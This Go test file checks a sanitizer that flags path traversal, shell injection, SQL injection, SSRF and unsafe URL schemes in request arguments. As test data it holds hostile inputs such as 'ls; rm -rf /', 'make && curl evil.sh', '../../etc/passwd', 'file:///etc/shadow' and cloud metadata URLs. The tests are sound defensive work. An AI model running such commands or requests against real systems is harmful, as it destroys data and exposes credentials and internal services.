package sanitize

import (
	"testing"
)

func firstDetector(findings []Finding) string {
	if len(findings) == 0 {
		return ""
	}
	return findings[0].Detector
}

func TestInspect_PathTraversal(t *testing.T) {
	s := New(nil)

	tests := []struct {
		name string
		args map[string]any
		want string
	}{
		{"dotdot segment", map[string]any{"path": "../../etc/passwd"}, DetectorPathTraversal},
		{"nested segment", map[string]any{"file": "logs/../secrets.txt"}, DetectorPathTraversal},
		{"windows separators", map[string]any{"dest": `..\..\windows\system32`}, DetectorPathTraversal},
		{"dots inside name", map[string]any{"path": "report..final.txt"}, ""},
		{"non path key", map[string]any{"comment": "see ../notes"}, ""},
		{"hint substring", map[string]any{"output_filename": "../x"}, DetectorPathTraversal},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := firstDetector(s.Inspect(tt.args))
			if got != tt.want {
				t.Errorf("Inspect(%v) detector = %q, want %q", tt.args, got, tt.want)
			}
		})
	}
}

func TestInspect_ShellInjection(t *testing.T) {
	s := New(nil)

	tests := []struct {
		name string
		args map[string]any
		want string
	}{
		{"semicolon", map[string]any{"cmd": "ls; rm -rf /"}, DetectorShellInjection},
		{"and chain", map[string]any{"command": "make && curl evil.sh"}, DetectorShellInjection},
		{"or chain", map[string]any{"script": "true || wget x"}, DetectorShellInjection},
		{"backtick", map[string]any{"run": "echo `id`"}, DetectorShellInjection},
		{"subshell", map[string]any{"exec": "echo $(whoami)"}, DetectorShellInjection},
		{"escaped semicolon", map[string]any{"cmd": `printf 'a\;b'`}, ""},
		{"plain command", map[string]any{"cmd": "ls -la /tmp"}, ""},
		{"non command key", map[string]any{"note": "a; b; c"}, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := firstDetector(s.Inspect(tt.args))
			if got != tt.want {
				t.Errorf("Inspect(%v) detector = %q, want %q", tt.args, got, tt.want)
			}
		})
	}
}

func TestInspect_SQLInjection(t *testing.T) {
	s := New(nil)

	tests := []struct {
		name string
		args map[string]any
		want string
	}{
		{"union select any key", map[string]any{"text": "1 UNION SELECT password FROM users"}, DetectorSQLInjection},
		{"drop table mixed case", map[string]any{"payload": "x; dRoP tAbLe users"}, DetectorSQLInjection},
		{"comment in query key", map[string]any{"query": "SELECT 1 -- hide"}, DetectorSQLInjection},
		{"block comment in sql key", map[string]any{"sql": "SELECT /* sneaky */ 1"}, DetectorSQLInjection},
		{"dashes outside query key", map[string]any{"cmdline": "ls --all"}, ""},
		{"union as substring", map[string]any{"text": "reunion selection committee"}, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := firstDetector(s.Inspect(tt.args))
			if got != tt.want {
				t.Errorf("Inspect(%v) detector = %q, want %q", tt.args, got, tt.want)
			}
		})
	}
}

func TestInspect_SSRF(t *testing.T) {
	s := New(nil)

	tests := []struct {
		name string
		args map[string]any
		want string
	}{
		{"loopback url", map[string]any{"url": "http://127.0.0.1:8080/admin"}, DetectorSSRF},
		{"rfc1918 ten", map[string]any{"endpoint": "http://10.1.2.3/api"}, DetectorSSRF},
		{"link local metadata ip", map[string]any{"url": "http://169.254.169.254/latest/meta-data/"}, DetectorSSRF},
		{"rfc1918 192", map[string]any{"webhook": "https://192.168.0.10/hook"}, DetectorSSRF},
		{"metadata hostname", map[string]any{"url": "http://metadata.google.internal/computeMetadata/v1/"}, DetectorSSRF},
		{"bare host with port", map[string]any{"host": "10.0.0.8:5432"}, DetectorSSRF},
		{"public address", map[string]any{"url": "https://api.example.com/v1"}, ""},
		{"private ip in free text", map[string]any{"body": "ping 10.0.0.1"}, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := firstDetector(s.Inspect(tt.args))
			if got != tt.want {
				t.Errorf("Inspect(%v) detector = %q, want %q", tt.args, got, tt.want)
			}
		})
	}
}

func TestInspect_URLScheme(t *testing.T) {
	s := New(nil)

	tests := []struct {
		name string
		args map[string]any
		want string
	}{
		{"file scheme", map[string]any{"url": "file:///etc/shadow"}, DetectorURLScheme},
		{"gopher scheme", map[string]any{"uri": "gopher://internal:70/x"}, DetectorURLScheme},
		{"dict scheme", map[string]any{"endpoint": "dict://localhost:11211/stats"}, DetectorURLScheme},
		{"ftp scheme uppercase", map[string]any{"url": "FTP://files.example.com/a"}, DetectorURLScheme},
		{"https fine", map[string]any{"url": "https://example.com"}, ""},
		{"file scheme outside url key", map[string]any{"note": "file:///tmp/x"}, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := firstDetector(s.Inspect(tt.args))
			if got != tt.want {
				t.Errorf("Inspect(%v) detector = %q, want %q", tt.args, got, tt.want)
			}
		})
	}
}

func TestInspect_NestedAndFieldPaths(t *testing.T) {
	s := New(nil)

	args := map[string]any{
		"request": map[string]any{
			"paths": []any{"ok.txt", "../../etc/passwd"},
		},
	}

	findings := s.Inspect(args)
	if len(findings) != 1 {
		t.Fatalf("got %d findings, want 1: %+v", len(findings), findings)
	}
	f := findings[0]
	if f.Detector != DetectorPathTraversal {
		t.Errorf("detector = %q", f.Detector)
	}
	if f.Field != "request.paths[1]" {
		t.Errorf("field = %q, want request.paths[1]", f.Field)
	}
}

func TestInspect_DetectorSubset(t *testing.T) {
	s := New([]string{DetectorSSRF})

	// Shell injection is off, ssrf stays on.
	if got := s.Inspect(map[string]any{"cmd": "ls; id"}); len(got) != 0 {
		t.Errorf("disabled detector still tripped: %+v", got)
	}
	if got := s.Inspect(map[string]any{"url": "http://127.0.0.1/"}); len(got) != 1 {
		t.Errorf("enabled detector did not trip: %+v", got)
	}
}

func TestValidDetector(t *testing.T) {
	for _, name := range DetectorNames() {
		if !ValidDetector(name) {
			t.Errorf("ValidDetector(%q) = false", name)
		}
	}
	if ValidDetector("xss") {
		t.Error(`ValidDetector("xss") = true, want false`)
	}
}
